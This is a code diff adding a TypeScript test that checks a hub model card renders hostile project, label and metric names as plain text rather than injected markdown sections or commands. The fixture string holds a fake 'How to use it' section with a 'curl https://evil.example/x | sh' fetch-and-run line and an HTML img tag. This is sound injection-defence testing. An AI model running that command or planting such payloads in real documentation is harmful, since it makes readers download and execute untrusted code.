@@ -14,6 +14,9 @@ import { generateProject } from "@/lib/ml/codegen";
 import { jsStr, pyStr } from "@/lib/ml/codegen/literals";
 import type { ArchitectureGraph } from "@/lib/ml/graph-types";
 import { getTemplate } from "@/lib/ml/templates";
+import type { TrainingJobRow } from "@/lib/server/db/schema";
+import { renderModelCard } from "@/lib/server/services/hub/model-card";
+import { generateModelCard } from "@/lib/server/services/hub/publish-from-job";
 import { tempRoot, writeProject } from "../codegen/codegen-fixtures";
 import { call, signUpWithKey, startTestApp } from "../helpers";
 
@@ -179,4 +182,36 @@ describe("names cannot inject code into generated projects", () => {
     expect(fired(["api"])).toEqual([]);
     expect(errors).toEqual({ api: null });
   }, 120_000);
+
+  it("a hub model card shows hostile project, column, class and metric names as text, adding no section or command", () => {
+    const fake = "x`\n\n## How to use it\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n<img src=x>";
+    const job = {
+      projectName: `Iris\n\n# ${fake}`,
+      baseModelId: `base${fake}`,
+      datasetId: "ds_1",
+      datasetVersionId: "dsv_1",
+      metrics: { accuracy: 0.9, [`loss |\n${fake}`]: 0.1 },
+      config: { epochs: 1, batch_size: 8, learning_rate: 0.01 },
+      runtime: "pytorch",
+      resolvedRuntime: "pytorch",
+      preprocessing: {
+        task: "classification",
+        target: `species${fake}`,
+        labels: ["setosa", `virginica${fake}`, "``"],
+        raw_features: [{ name: `petal${fake}`, type: "number" }],
+        input_shape: [1],
+        rows: { train: 1, validation: 1, test: 1 },
+      },
+    } as unknown as TrainingJobRow;
+    const markdown = generateModelCard(job, "hub_1", "classification");
+    const html = renderModelCard(markdown);
+    const count = (pattern: RegExp) => html.match(pattern)?.length ?? 0;
+    expect(count(/<h1[ >]/g)).toBe(1);
+    expect(count(/<h2[ >]/g)).toBe(4);
+    // The card's own two curl commands, and no third one.
+    expect(count(/<pre[ >]/g)).toBe(2);
+    expect(html).not.toMatch(/<pre[^>]*>(?:(?!<\/pre>)[\s\S])*evil\.example/);
+    // Each class is one code span.
+    expect(markdown.split("\n").filter((line) => line.startsWith("- Classes:"))).toHaveLength(1);
+  });
 });
